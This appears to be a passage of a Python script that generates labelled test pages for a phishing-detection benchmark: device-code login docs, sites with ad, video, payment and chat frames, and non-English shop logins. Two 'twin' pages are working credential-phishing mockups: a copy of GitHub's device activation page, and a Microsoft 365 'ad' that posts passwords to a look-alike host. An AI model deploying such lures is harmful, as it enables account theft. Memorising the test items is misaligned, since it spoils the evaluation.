     'https://meritsolutions.net/?p=2832 ; https://detection.fyi/sigmahq/sigma/windows/process_creation/proc_creation_win_susp_clickfix_filefix_execution', F, b, 'Microsoft Teams', CF_CSS, provider='microsoft')

# =========================================================== 3. Docs and blog posts with device-code transcripts (docs)
F = 'docs'
DOC_CSS = '.docs{display:grid;grid-template-columns:230px 1fr;max-width:1120px;margin:0 auto}.side{padding:24px;font-size:14px}.side a{display:block;color:#333;margin:6px 0}.content{background:#fff;padding:32px 44px;border-left:1px solid #e3e6ea;min-height:100vh}'
def docs(brand, color, side, content):
    return top(brand, color, ['Docs', 'Reference', 'Blog'], '<input type="search" placeholder="Search docs" style="width:220px">') + '<div class="docs"><nav class="side">' + ''.join(f'<a href="#">{s}</a>' for s in side) + f'</nav><main class="content">{content}</main></div>'
def pre(text): return f'<pre><code>{_html.escape(text)}</code></pre>'
AZ = '''$ az login --use-device-code
To sign in, use a web browser to open the page https://microsoft.com/devicelogin and enter the code GQ7RZ2MKP to authenticate.
[
  {
    "cloudName": "AzureCloud",
    "homeTenantId": "72f988bf-0000-0000-0000-2d7cd011db47",
    "isDefault": true,
    "name": "Contoso Dev/Test",
    "state": "Enabled",
    "user": { "name": "dana@contoso.com", "type": "user" }
  }
]'''
b = docs('Stratus CLI', '#0369a1', ['Install', 'Sign in', 'Profiles', 'Commands', 'FAQ'],
  '<h1>Sign in to Azure</h1><p>Stratus uses your Azure CLI login. On a machine without a browser (SSH, containers, Cloud Shell), use the device code flow:</p>' + pre(AZ) +
  '<p>Open <code>https://microsoft.com/devicelogin</code> on any device, enter the code and sign in with your work account. Stratus then reads the token from the Azure CLI cache:</p>' + pre('$ stratus whoami\nSigned in as dana@contoso.com (tenant contoso.onmicrosoft.com)') +
  '<h2>Troubleshooting</h2><p>If you see <code>AADSTS50076</code>, your organisation requires MFA: run <code>az login --tenant contoso.onmicrosoft.com --use-device-code</code>.</p>')
page('docs-az-device-code', 'docs.stratus-cli.dev', '/sign-in/azure', 'none',
     'A CLI tool\'s docs quoting an az login --use-device-code transcript ("To sign in, use a web browser to open the page https://microsoft.com/devicelogin and enter the code …")',
     'https://learn.microsoft.com/en-us/azure-sphere/reference/authenticate-cli ; https://gist.github.com/devigned/5dd22909b88255a4eafe', F, b, 'Sign in to Azure – Stratus CLI', DOC_CSS)
GH = '''$ gh auth login
? Where do you use GitHub? GitHub.com
? What is your preferred protocol for Git operations on this host? HTTPS
? Authenticate Git with your GitHub credentials? Yes
? How would you like to authenticate GitHub CLI? Login with a web browser

! First copy your one-time code: 7B2C-91FD
Press Enter to open https://github.com/login/device in your browser...
✓ Authentication complete.
- gh config set -h github.com git_protocol https
✓ Configured git protocol
✓ Logged in as octo-dana'''
b = top('Forgejo', '#f97316', ['Explore', 'Help'], '<a href="/user/login">Sign in</a>') + '<main class="wrap"><p class="muted">tooling / <strong>pr-herder</strong> &middot; README.md</p><article class="card"><h1>pr-herder</h1><p>Label, assign and merge pull requests across GitHub and this Forgejo instance from one command.</p><h2>Authenticate</h2><p>pr-herder reuses the GitHub CLI token. Log in once:</p>' + pre(GH) + '<p>Then check it works:</p>' + pre('$ pr-herder doctor\nGitHub: ok (octo-dana, scopes: repo, read:org, gist)\nForgejo: ok (token from ~/.config/pr-herder.toml)') + '<h2>License</h2><p>MIT</p></article></main>'
page('readme-gh-auth-transcript', 'code.tinkerhaus.org', '/tooling/pr-herder', 'none',
     'A README on a self-hosted Forgejo quoting a full gh auth login transcript ("! First copy your one-time code … Press Enter to open https://github.com/login/device")',
     'https://github.com/cli/cli/issues/12925 (the gh auth login transcript) ; https://cli.github.com/manual/gh_auth_login', F, b, 'tooling/pr-herder - Forgejo', '')
GC = '''PS C:\\> gcloud auth login --no-browser
You are authorizing gcloud CLI without access to a web browser. Please run the following command on a machine with a web browser and copy its output back here. Make sure the installed gcloud version is 372.0.0 or newer.

gcloud auth login --remote-bootstrap="https://accounts.google.com/o/oauth2/auth?response_type=code&client_id=32555940559.apps.googleusercontent.com&scope=openid+https%3A%2F%2Fwww.googleapis.com%2Fauth%2Fuserinfo.email&state=Qx8…&access_type=offline&code_challenge_method=S256&token_usage=remote"

Enter the output of the above command: '''
b = docs('Ledgerline Docs', '#16a34a', ['Quickstart', 'Authentication', 'BigQuery export', 'Windows setup'],
  '<h1>Authenticate on a Windows server without a browser</h1><p>Ledgerline exports to BigQuery with your own Google Cloud credentials. On Windows Server Core, open PowerShell and run:</p>' + pre(GC) +
  '<p>Run the printed <code>gcloud auth login --remote-bootstrap=…</code> command on your laptop, sign in with your Google account there, and paste the output back. Then:</p>' + pre('PS C:\\> gcloud auth application-default login --no-browser\nPS C:\\> ledgerline export --to bigquery --dataset finance_raw'))
page('docs-gcloud-no-browser-ps', 'docs.ledgerline.io', '/authentication/windows-server', 'none',
     'Docs quoting a gcloud auth login --no-browser transcript in PowerShell, including an accounts.google.com OAuth URL in the remote-bootstrap command',
     'https://cloud.google.com/sdk/gcloud/reference/auth/login', F, b, 'Authenticate without a browser – Ledgerline Docs', DOC_CSS)
BLOG_CSS = '.post{max-width:760px;margin:0 auto;background:#fff;padding:32px 40px;border:1px solid #e3e6ea}.meta{color:#6a737d;font-size:13px}'
AZ_ES = '''$ az login --use-device-code
Para iniciar sesión, use un explorador web para abrir la página https://microsoft.com/devicelogin y escriba el código HBN4K8QZT para autenticarse.'''
b = top('El Rincón DevOps', '#db2777', ['Artículos', 'Sobre mí'], '') + '<main class="wrap"><article class="post"><h1>Cómo iniciar sesión en Azure desde un contenedor</h1><p class="meta">Publicado el 3 de noviembre de 2026 por Lucía Ferrer</p><p>Dentro de un contenedor no hay navegador, así que <code>az login</code> a secas no sirve. La solución es el flujo de código de dispositivo:</p>' + pre(AZ_ES) + '<p>Abrí la página en el móvil, escribí el código e inicié sesión con mi cuenta de Microsoft. <strong>Ojo</strong>: nunca introduzcas un código que te haya enviado otra persona; el código solo debe venir de tu propia terminal.</p><h2>Comentarios (4)</h2><form action="/wp-comments-post.php" method="post"><label for="c">Comentario</label><textarea id="c" name="comment" rows="4"></textarea><label for="n">Nombre</label><input id="n" name="author" type="text"><label for="e">Correo electrónico</label><input id="e" name="email" type="email"><button class="btn" type="submit">Publicar comentario</button></form></article></main>'
page('blog-az-device-code-es', 'www.rincondevops.es', '/2026/11/az-login-contenedor', 'none',
     'A Spanish blog post quoting az login --use-device-code in Spanish, with a comment form',
     'https://learn.microsoft.com/es-es/cli/azure/authenticate-azure-cli-interactively', F, b, 'Cómo iniciar sesión en Azure desde un contenedor', BLOG_CSS, 'es')
AZ_ZH = '''$ az login --use-device-code
若要登录，请使用 Web 浏览器打开页面 https://microsoft.com/devicelogin 并输入代码 FJ9KQ2WLD 进行身份验证。'''
b = docs('云梯文档', '#2563eb', ['快速开始', '身份验证', '部署', '常见问题'],
  '<h1>使用设备代码登录 Azure</h1><p>在没有浏览器的服务器上，请使用设备代码流登录：</p>' + pre(AZ_ZH) + '<p>在手机或电脑上打开 <code>https://microsoft.com/devicelogin</code>，输入终端中显示的代码，然后使用你的工作或学校帐户登录。</p><p>登录后运行 <code>yunti deploy</code> 即可。</p>')
page('docs-az-device-code-zh', 'docs.yunti.cn', '/auth/azure-device-code', 'none',
     'Chinese docs quoting az login --use-device-code in Chinese (微软 device-login page named in the transcript)',
     'https://learn.microsoft.com/zh-cn/cli/azure/authenticate-azure-cli-interactively', F, b, '使用设备代码登录 Azure - 云梯文档', DOC_CSS, 'zh')
MG = '''PS> Connect-MgGraph -Scopes "User.Read.All","Group.ReadWrite.All" -UseDeviceCode
To sign in, use a web browser to open the page https://microsoft.com/devicelogin and enter the code D4RTSX2QE to authenticate.
Welcome to Microsoft Graph!

PS> Connect-ExchangeOnline -Device
To sign in, use a web browser to open the page https://microsoft.com/devicelogin and enter the code L8M2QH7PA to authenticate.'''
b = docs('TenantTidy', '#7c3aed', ['Getting started', 'Permissions', 'Scripts', 'Changelog'],
  '<h1>Connecting to your tenant</h1><p>TenantTidy scripts run in PowerShell 7 and use the Microsoft Graph and Exchange Online modules. From a jump host, connect with device code:</p>' + pre(MG) + '<p>A Global Reader role is enough for the report scripts; the clean-up scripts need Groups Administrator.</p>')
page('docs-mggraph-device-code', 'docs.tenanttidy.com', '/getting-started/connect', 'none',
     'Docs for PowerShell scripts quoting Connect-MgGraph -UseDeviceCode and Connect-ExchangeOnline -Device transcripts',
     'https://learn.microsoft.com/en-us/powershell/microsoftgraph/authentication-commands', F, b, 'Connecting to your tenant – TenantTidy', DOC_CSS)
FISH = '''~> vaultctl login --provider azure
Opening a device code session with Microsoft Entra ID…
To sign in, use a web browser to open the page https://microsoft.com/devicelogin and enter the code CXW7P3N2R to authenticate.
Waiting for you to finish signing in… done.
~> vaultctl login --provider github
! First copy your one-time code: 33AF-0C1E
Then open: https://github.com/login/device
✓ Logged in to GitHub as kai-n'''
b = docs('vaultctl', '#0f172a', ['Install', 'Login', 'Secrets', 'fish / zsh / bash'],
  '<h1>vaultctl login</h1><p>Both providers use the OAuth device flow, so login works in any shell, over SSH and in CI runners with a TTY. Example in fish:</p>' + pre(FISH) + '<p>vaultctl never asks for your Microsoft or GitHub password; only the provider\'s own page does.</p>')
page('docs-cli-fish-device-flows', 'vaultctl.sh', '/docs/login', 'none',
     'A CLI\'s docs quoting both a Microsoft and a GitHub device-flow login in fish shell',
     'https://learn.microsoft.com/en-us/entra/identity-platform/v2-oauth2-device-code ; https://docs.github.com/en/apps/oauth-apps/building-oauth-apps/authorizing-oauth-apps#device-flow', F, b, 'vaultctl login', DOC_CSS)
AZD = '''$ azd auth login --use-device-code
Start by copying the next code: K7TQ-MZ2P
Then press enter and continue to log in from your browser...
Waiting for you to complete authentication in the browser...
Device code authentication completed.
Logged in to Azure.'''
b = top('Wolkenschmiede', '#0891b2', ['Blog', 'Workshops'], '') + '<main class="wrap"><article class="post"><h1>azd in GitHub Codespaces: Anmeldung per Gerätecode</h1><p class="meta">18. November 2026 · Jonas Keller</p><p>In Codespaces öffnet <code>azd auth login</code> keinen Browser. Mit <code>--use-device-code</code> klappt es:</p>' + pre(AZD) + '<p>Danach <code>azd up</code> – fertig. Die Anmeldung selbst passiert immer auf der Microsoft-Seite, nie in Codespaces.</p></article></main>'
page('blog-azd-device-code-de', 'www.wolkenschmiede.de', '/blog/azd-codespaces-geraetecode', 'none',
     'A German blog post quoting an azd auth login --use-device-code transcript in Codespaces',
     'https://github.com/Azure/azure-dev/issues/2332', F, b, 'azd in GitHub Codespaces: Anmeldung per Gerätecode', BLOG_CSS, 'de')
# twin
b = f'''<div style="text-align:center;padding-top:32px">{OCTO}</div><div style="width:360px;margin:0 auto"><h1 style="font-size:24px;font-weight:300;text-align:center">Device Activation</h1><p style="text-align:center">Sign in to GitHub to activate <strong>pr-herder</strong></p><div class="card" style="padding:16px"><form action="/login/device/confirm" method="post"><label for="login_field">Username or email address</label><input type="text" name="login" id="login_field"><label for="password">Password</label><input type="password" name="password" id="password"><label for="code">One-time code</label><input type="text" name="user_code" id="code" value="7B2C-91FD"><input type="submit" value="Continue" class="btn wide" style="background:#1f883d"></form></div></div>'''
page('twin-gh-device-password', 'github-login-device.com', '/login/device', 'danger',
     'Twin of readme-gh-auth-transcript: a GitHub "Device Activation" copy on a look-alike host that asks for the GitHub username and password with the one-time code',
     'https://www.microsoft.com/en-us/security/blog/2025/02/13/storm-2372-conducts-device-code-phishing-campaign/ (device-code lures; here the GitHub page is copied)', F, b, 'Device Activation · GitHub', 'body{background:#f6f8fa}', provider='github')

# =========================================================== 4. Third-party frames beside the site's own forms (frames)
F = 'frames'
AD_M365 = '<html><body style="margin:0;font-family:Segoe UI,Arial;background:#0078d4;color:#fff;padding:18px"><div style="font-size:12px;opacity:.8">Ad &middot; Microsoft</div>' + MS_LOGO.replace('#5e5e5e', '#fff') + '<h2 style="margin:12px 0">Microsoft 365 Business Standard</h2><p>Teams, Outlook, Word, Excel and 1 TB OneDrive. Try free for one month.</p><a href="https://www.microsoft.com/microsoft-365/business" target="_blank" style="background:#fff;color:#0078d4;padding:8px 16px;text-decoration:none;font-weight:600">Try free</a></body></html>'
b = top('The Harbour Gazette', '#1e3a8a', ['News', 'Sport', 'Business', 'Opinion'], '<a href="/login">Log in</a>') + f'''<main class="wrap" style="display:grid;grid-template-columns:1fr 320px;gap:28px"><article class="card"><h1>Ferry timetable changes from January</h1><p class="muted">By Ruth Evans &middot; 1 December 2026</p><p>The island ferry will run two extra sailings on weekdays&hellip;</p>
<h2>Join the conversation</h2><form action="/comments/login" method="post"><label for="ce">Email</label><input id="ce" name="email" type="email"><label for="cp">Password</label><input id="cp" name="password" type="password"><button class="btn" type="submit">Log in to comment</button></form></article>
<aside>{srcdoc(AD_M365)}<p class="muted">Advertisement</p></aside></main>'''
page('news-m365-ad-frame', 'www.harbourgazette.co.uk', '/news/2026/12/01/ferry-timetable-changes', 'none',
     'A local news article with its own comment login and, beside it, a sandboxed srcdoc ad for Microsoft 365 (Microsoft logo, "Try free")',
     'https://developers.google.com/publisher-tag/guides/learn-basics (ads served in iframes beside a publisher\'s own content)', F, b, 'Ferry timetable changes from January | The Harbour Gazette', '')
STAR = '<html><body style="margin:0;font:12px -apple-system,Segoe UI,Arial"><a href="https://github.com/tinkerhaus/quill" target="_blank" style="display:inline-flex;gap:4px;align-items:center;border:1px solid #d0d7de;border-radius:6px;padding:3px 8px;color:#24292f;text-decoration:none;background:#f6f8fa"><svg width="14" height="14" viewBox="0 0 16 16"><path d="M8 .25l2.4 4.9 5.4.8-3.9 3.8.9 5.4L8 12.6l-4.8 2.5.9-5.4L.2 5.9l5.4-.8z" fill="#57606a"/></svg>Star</a> <span style="border:1px solid #d0d7de;border-radius:6px;padding:3px 8px">4,812</span> <span>on GitHub</span></body></html>'
b = top('Quill', '#0f766e', ['Docs', 'Plugins', 'Pricing'], srcdoc(STAR, 200, 28, title='GitHub stars')) + f'''<div class="narrow card"><h2 style="margin-top:0">Sign in to Quill Cloud</h2>{own_login('/session')}<div class="or">or</div>{sso_button('Sign in with GitHub', ICON_GH)}</div>'''
page('login-github-star-widget', 'cloud.quill-editor.io', '/login', 'none',
     'A SaaS login page with its own form, a "Sign in with GitHub" button and a sandboxed srcdoc "Star on GitHub" widget in the header',
     'https://github.com/mojeda/github-buttons (ghbtns "Star" buttons embedded as iframes)', F, b, 'Sign in – Quill Cloud', '')
YT = '<html><body style="margin:0;background:#000;color:#fff;font-family:Roboto,Arial;height:100%"><div style="padding:10px;font-size:14px">How to make sourdough starter &middot; Crumb &amp; Co</div><div style="text-align:center;margin-top:80px"><span style="display:inline-block;background:#f00;border-radius:14px;padding:14px 22px;font-size:22px">&#9654;</span></div><div style="position:absolute;bottom:8px;right:12px;font-size:13px">Watch on YouTube</div></body></html>'
b = top('Crumb & Co', '#92400e', ['Recipes', 'Videos', 'Shop'], '<a href="/account">My recipe box</a>') + f'''<main class="wrap" style="display:grid;grid-template-columns:1fr 340px;gap:28px"><article class="card"><h1>Sourdough starter in 7 days</h1>{srcdoc(YT, 560, 315, 'allow-scripts allow-same-origin allow-popups', 'YouTube video player')}<p>Mix 50 g flour and 50 g water&hellip;</p></article>
<aside class="card"><h3 style="margin-top:0">Save this recipe</h3><p class="muted">Log in to your recipe box.</p>{own_login('/account/login')}{sso_button('Continue with Google', ICON_G)}</aside></main>'''
page('recipe-video-embed', 'www.crumbandco.kitchen', '/recipes/sourdough-starter', 'none',
     'A recipe page with a YouTube-like video embed in a srcdoc frame ("Watch on YouTube") and its own recipe-box login with "Continue with Google"',
     'https://developers.google.com/youtube/iframe_api_reference (embedded player iframe)', F, b, 'Sourdough starter in 7 days | Crumb & Co', '')
PAY = '<html><body style="margin:0;font-family:-apple-system,Arial;padding:4px"><label style="font-size:13px">Card number</label><input name="cardnumber" autocomplete="cc-number" inputmode="numeric" placeholder="1234 1234 1234 1234" style="width:100%;padding:9px;border:1px solid #ccc;border-radius:6px"><div style="display:flex;gap:8px;margin-top:8px"><input name="exp-date" placeholder="MM / YY" style="flex:1;padding:9px;border:1px solid #ccc;border-radius:6px"><input name="cvc" placeholder="CVC" style="flex:1;padding:9px;border:1px solid #ccc;border-radius:6px"></div></body></html>'
b = top('Threadline', '#111827', ['Women', 'Men', 'Sale'], '') + f'''<main class="wrap grid2"><section class="card"><h2 style="margin-top:0">Checkout</h2><button class="sso" style="background:#000;color:#fff">Buy with G Pay</button><div class="or">or pay with card</div>{srcdoc(PAY, 420, 120, 'allow-scripts allow-forms', 'Secure card payment input frame')}<label for="em">Email for receipt</label><input id="em" name="email" type="email"><button class="btn wide" type="submit">Pay £64.00</button></section>
<section class="card"><h3 style="margin-top:0">Returning customer?</h3>{own_login('/account/login', 'Email', 'Password', 'Log in')}</section></main>'''
page('checkout-payment-frame', 'shop.threadline.co.uk', '/checkout', 'none',
     'A shop checkout with a card-input frame (srcdoc), a "Buy with G Pay" button and its own returning-customer login',
     'https://docs.stripe.com/payments/elements (card fields in a payment provider\'s iframe)', F, b, 'Checkout – Threadline', '')
CHAT = '<html><body style="margin:0;font-family:Arial;background:#fff"><div style="background:#4f46e5;color:#fff;padding:12px">Chat with Loomwork support</div><div style="padding:12px;font-size:14px"><p>Hi! Ask us anything about connecting Loomwork to Google Calendar or Microsoft Outlook.</p><input name="name" placeholder="Your name" style="width:100%;padding:8px;margin:4px 0"><input name="email" type="email" placeholder="Your email" style="width:100%;padding:8px;margin:4px 0"><textarea name="message" placeholder="Type your message" style="width:100%;padding:8px"></textarea><button style="background:#4f46e5;color:#fff;border:0;padding:8px 14px">Send</button></div></body></html>'
b = top('Loomwork', '#4f46e5', ['Product', 'Integrations', 'Pricing'], '') + f'''<div class="narrow card"><h2 style="margin-top:0">Log in to Loomwork</h2>{sso_button('Continue with Google', ICON_G)}{sso_button('Continue with Microsoft', ICON_SQ)}<div class="or">or</div>{own_login('/login')}</div><div style="position:fixed;right:20px;bottom:20px">{srcdoc(CHAT, 320, 360, 'allow-scripts allow-forms', 'Chat widget')}</div>'''
page('login-chat-widget', 'app.loomwork.io', '/login', 'none',
     'A scheduling app\'s login (Google/Microsoft buttons and its own form) with a support chat widget in a srcdoc frame naming Google Calendar and Microsoft Outlook',
     'https://developers.intercom.com/installing-intercom/web/installation (chat widgets load in iframes)', F, b, 'Log in – Loomwork', '')
AD_GWS = '<html><body style="margin:0;font-family:Arial;background:#fff;border:1px solid #ddd;padding:16px"><div style="font-size:11px;color:#666">Ad</div>' + G_LOGO + '<h3 style="margin:8px 0">Google Workspace</h3><p>Professional email with your domain, Drive storage and Meet. 14-day free trial.</p><a href="https://workspace.google.com/" target="_blank" style="background:#1a73e8;color:#fff;padding:8px 14px;text-decoration:none;border-radius:4px">Get started</a></body></html>'
b = top('Allotment Talk', '#15803d', ['Forums', 'Members'], '') + f'''<main class="wrap" style="display:grid;grid-template-columns:1fr 320px;gap:28px"><section class="card"><h2 style="margin-top:0">Member login</h2>{own_login('/forum/login', 'Username', 'Password', 'Log in', 'username')}<p><a href="/register">Register</a> &middot; <a href="/lost-password">Lost password?</a></p></section><aside>{srcdoc(AD_GWS)}</aside></main>'''
page('forum-workspace-ad-frame', 'www.allotment-talk.org.uk', '/forum/login', 'none',
     'A gardening forum\'s member login with a srcdoc ad for Google Workspace (Google logo, "Get started")',
     'https://developers.google.com/publisher-tag/guides/learn-basics', F, b, 'Member login – Allotment Talk', '')
CAP = '<html><body style="margin:0;font-family:Roboto,Arial;font-size:13px"><div style="border:1px solid #d3d3d3;background:#f9f9f9;padding:12px;width:280px;display:flex;align-items:center;gap:10px"><input type="checkbox" style="width:24px;height:24px"> I\'m not a robot <span style="margin-left:auto;font-size:10px;color:#555">reCAPTCHA<br>Privacy - Terms</span></div></body></html>'
b = top('Cedar Credit Union', '#166534', ['Accounts', 'Loans'], '') + f'''<div class="narrow card"><h2 style="margin-top:0">Online Banking</h2>{own_login('/banking/login', 'Member number', 'Password', 'Log in', 'member')}{srcdoc(CAP, 310, 80, 'allow-scripts allow-same-origin', 'reCAPTCHA')}<p class="muted">Protected by reCAPTCHA. Google Privacy Policy and Terms of Service apply.</p></div>'''
page('credit-union-recaptcha-frame', 'online.cedarcu.org', '/banking/login', 'none',
     'A credit union login with a reCAPTCHA-like "I\'m not a robot" box in a frame and "Protected by reCAPTCHA … Google Privacy Policy"',
     'https://developers.google.com/recaptcha/docs/display', F, b, 'Online Banking – Cedar Credit Union', '')
CS = '<html><body style="margin:0;font-family:-apple-system,Arial;font-size:13px"><a href="https://github.com/codespaces/new?repo=tinkerhaus/quill" target="_blank" style="display:inline-block;background:#2da44e;color:#fff;padding:6px 12px;border-radius:6px;text-decoration:none">Open in GitHub Codespaces</a></body></html>'
b = docs('Quill Docs', '#0f766e', ['Contributing', 'Dev setup', 'Plugins'], f'<h1>Set up a development environment</h1><p>The fastest way is a Codespace:</p>{srcdoc(CS, 260, 40, title="Open in GitHub Codespaces")}<p>Or clone locally:</p>' + pre('git clone https://github.com/tinkerhaus/quill.git\ncd quill && npm ci && npm run dev') + f'<h2>Contributor sign-in</h2><p>To claim issues on our tracker, sign in:</p>{sso_button("Sign in with GitHub", ICON_GH)}')
page('docs-codespaces-badge', 'docs.quill-editor.io', '/contributing/dev-setup', 'none',
     'Contributor docs with an "Open in GitHub Codespaces" badge in a srcdoc frame and a "Sign in with GitHub" button',
     'https://docs.github.com/en/codespaces/setting-up-your-project-for-codespaces/setting-up-your-repository/facilitating-quick-creation-and-resumption-of-codespaces', F, b, 'Dev setup – Quill Docs', DOC_CSS)
# twin
AD_PHISH = '<html><body style="margin:0;font-family:Segoe UI,Arial;background:#fff;padding:18px">' + MS_LOGO + '<h2 style="font-weight:600;margin:10px 0">Sign in to claim your free Microsoft 365</h2><form action="https://m365-offer-claim.net/c" method="post"><input type="email" name="loginfmt" placeholder="Email, phone, or Skype" style="width:100%;padding:6px;margin:4px 0"><input type="password" name="passwd" placeholder="Password" style="width:100%;padding:6px;margin:4px 0"><button style="background:#0067b8;color:#fff;border:0;padding:6px 20px">Sign in</button></form></body></html>'
b = top('The Harbour Gazette', '#1e3a8a', ['News', 'Sport'], '') + f'''<main class="wrap" style="display:grid;grid-template-columns:1fr 320px;gap:28px"><article class="card"><h1>Ferry timetable changes from January</h1><p>The island ferry will run two extra sailings&hellip;</p></article><aside>{srcdoc(AD_PHISH, 300, 280)}</aside></main>'''
page('twin-news-ad-ms-password', 'harbourgazette-news.co.uk', '/news/2026/12/01/ferry-timetable-changes', 'danger',
     'Twin of news-m365-ad-frame: the srcdoc "ad" is a Microsoft sign-in (logo, loginfmt/passwd) asking the Microsoft password to "claim" an offer, on a look-alike host',
     'https://www.malwarebytes.com/blog/news/2025/01/fake-microsoft-365-ads (malvertising leading to Microsoft sign-in copies)', F, b, 'Ferry timetable changes | The Harbour Gazette', '', provider='microsoft')

# =========================================================== 5. Sites in their own script with provider buttons (intl)
F = 'intl'
def intl_login(brand, color, links, title, user_l, pass_l, submit, socials, lang, note='', forgot=''):
    s = ''.join(sso_button(l, i) for l, i in socials)
    return top(brand, color, links, '') + f'''<main class="wrap grid2"><section class="card"><h2 style="margin-top:0">{title}</h2><form action="/member/login" method="post"><label for="u">{user_l}</label><input id="u" name="user_id" type="text" autocomplete="username"><label for="p">{pass_l}</label><input id="p" name="user_pw" type="password" autocomplete="current-password"><button class="btn wide" type="submit">{submit}</button></form><p class="muted">{forgot}</p></section><section class="card">{s}<p class="muted">{note}</p></section></main>'''
b = intl_login('さくら書房', '#be185d', ['新刊', 'ランキング', '電子書籍'], '会員ログイン', 'メールアドレスまたは会員ID', 'パスワード', 'ログイン',
    [('Googleでログイン', ICON_G), ('Microsoftアカウントでログイン', ICON_SQ), ('Apple IDでサインイン', ICON_SQ)], 'ja', 'さくら書房はお客様のGoogle・Microsoftのパスワードを受け取りません。', 'パスワードをお忘れの方 ・ 新規会員登録')
page('ja-bookshop-login', 'www.sakura-shobo.jp', '/member/login', 'none',
     'A Japanese bookshop (さくら書房) member login with its own ID/password form beside "Googleでログイン" and "Microsoftアカウントでログイン"',
     'https://hikaku.kurashiru.com/articles/01HMQQJRAZPKRXKNFH2BC62CPJ (Japanese shop member login screens)', F, b, '会員ログイン｜さくら書房', '', 'ja')
b = intl_login('云栈商城', '#dc2626', ['首页', '分类', '购物车'], '会员登录', '手机号 / 邮箱', '密码', '登录',
    [('使用 Google 登录', ICON_G), ('使用 GitHub 登录', ICON_GH), ('微信扫码登录', ICON_SQ)], 'zh', '登录即表示同意《用户协议》和《隐私政策》', '忘记密码？ · 免费注册')
page('zh-shop-login', 'www.yunzhan-mall.com', '/member/login', 'none',
     'A Chinese shop (云栈商城) member login with its own phone/e-mail and password beside 使用 Google 登录 / 使用 GitHub 登录 / 微信',
     'https://developers.google.cn/identity/gsi/web/guides/migration (Sign in with Google buttons on third-party sites)', F, b, '会员登录 - 云栈商城', '', 'zh')
b = intl_login('바람서점', '#0d9488', ['베스트', '신간', '이벤트'], '회원 로그인', '아이디', '비밀번호', '로그인',
    [('Google 계정으로 로그인', ICON_G), ('카카오 로그인', ICON_SQ), ('네이버 로그인', ICON_SQ)], 'ko', '간편 로그인 시 바람서점 약관에 동의한 것으로 봅니다.', '아이디 찾기 · 비밀번호 찾기 · 회원가입')
page('ko-bookshop-login', 'www.baram-books.co.kr', '/member/login', 'none',
     'A Korean bookshop (바람서점) login with 아이디/비밀번호 beside Google 계정으로 로그인, 카카오, 네이버',
     'https://help.makeshop.co.kr/faq/customer/undefined/undefined-7 (Korean shop social login)', F, b, '로그인 | 바람서점', '', 'ko')
b = intl_login('Книжная полка', '#1d4ed8', ['Каталог', 'Акции', 'Доставка'], 'Вход в личный кабинет', 'Электронная почта или телефон', 'Пароль', 'Войти',
    [('Войти через Google', ICON_G), ('Войти через GitHub', ICON_GH), ('Войти через Яндекс ID', ICON_SQ)], 'ru', 'Мы не храним ваши пароли от Google и GitHub.', 'Забыли пароль? · Регистрация')
page('ru-bookshop-login', 'www.knizhnaya-polka.ru', '/lk/login', 'none',
     'A Russian bookshop (Книжная полка) personal-account login beside Войти через Google / GitHub / Яндекс ID',
     'https://gosuslugisovet.ru/articles/view/kak-voyti-v-lichnyy-kabinet-gosuslug-sovety-i-rekomendatsii (Russian personal-account login wording)', F, b, 'Вход в личный кабинет — Книжная полка', '', 'ru')
b = intl_login('متجر الواحة', '#047857', ['الرئيسية', 'العروض', 'سلة التسوق'], 'تسجيل الدخول', 'البريد الإلكتروني أو رقم الجوال', 'كلمة المرور', 'دخول',
    [('تسجيل الدخول باستخدام Google', ICON_G), ('تسجيل الدخول باستخدام Microsoft', ICON_SQ), ('تسجيل الدخول باستخدام Apple', ICON_SQ)], 'ar', 'لن نطلب منك أبدًا كلمة مرور حسابك في Google.', 'نسيت كلمة المرور؟ · إنشاء حساب')
b = b.replace('<main class="wrap grid2">', '<main class="wrap grid2" dir="rtl">')
page('ar-shop-login', 'www.alwaha-store.sa', '/account/login', 'none',
     'An Arabic shop (متجر الواحة) login, right-to-left, with its own e-mail/password beside تسجيل الدخول باستخدام Google / Microsoft',
     'https://developers.google.com/identity/siwg/best-practices?hl=ar (Arabic "Sign in with Google" wording)', F, b, 'تسجيل الدخول - متجر الواحة', '', 'ar')
b = top('カレンダ連携Pro', '#2563eb', ['機能', '料金', '導入事例'], '<a href="/login">ログイン</a>') + f'''<main class="wrap"><h1>Microsoft 365・Google Workspace と予定を自動同期</h1><p>カレンダ連携Proは Outlook予定表、Googleカレンダー、Teams会議URLをまとめて管理できるクラウドサービスです。</p><div class="grid3"><div class="card"><h3>Outlook / Teams</h3><p>Microsoft Graph API で予定を同期</p></div><div class="card"><h3>Google カレンダー</h3><p>Google Calendar API で双方向同期</p></div><div class="card"><h3>GitHub</h3><p>マイルストーンを予定として表示</p></div></div>
<section class="card narrow"><h2 style="margin-top:0">管理者ログイン</h2><form action="/login" method="post"><label for="t">テナントID</label><input id="t" name="tenant" type="text"><label for="u">メールアドレス</label><input id="u" name="email" type="email"><label for="p">パスワード</label><input id="p" name="password" type="password"><button class="btn wide" type="submit">ログイン</button></form>{sso_button('Microsoftでサインイン', ICON_SQ)}{sso_button('Googleでログイン', ICON_G)}</section></main>'''
page('ja-saas-m365-product', 'www.calendar-renkei.jp', '/', 'none',
     'A Japanese SaaS product page (カレンダ連携Pro) naming Microsoft 365, Teams, Google Workspace and GitHub, with its own admin login and provider buttons',
     'https://manual.future-shop.jp/operateguide/accountLinkageFlowGuide/AccountLinkage-SC', F, b, 'カレンダ連携Pro｜Microsoft 365・Google Workspace 予定同期', '', 'ja')
b = top('码农茶馆', '#0f172a', ['问答', '专栏', '活动'], '') + f'''<main class="wrap grid2"><section class="card"><h2 style="margin-top:0">登录码农茶馆</h2>{own_login('/user/login', '用户名 / 邮箱', '密码', '登录', 'account')}</section><section class="card"><h3 style="margin-top:0">第三方账号登录</h3>{sso_button('GitHub 账号登录', ICON_GH)}{sso_button('Gitee 账号登录', ICON_SQ)}<p class="muted">热门话题：GitHub Copilot 使用心得 · Azure DevOps 迁移到 GitHub Actions</p></section></main>'''
page('zh-dev-forum-login', 'www.manong-chaguan.cn', '/user/login', 'none',
     'A Chinese developer forum (码农茶馆) login with GitHub and Gitee account buttons, topics naming GitHub Copilot and Azure DevOps',
     'https://docs.github.com/zh/apps/oauth-apps/building-oauth-apps/authorizing-oauth-apps', F, b, '登录 - 码农茶馆', '', 'zh')
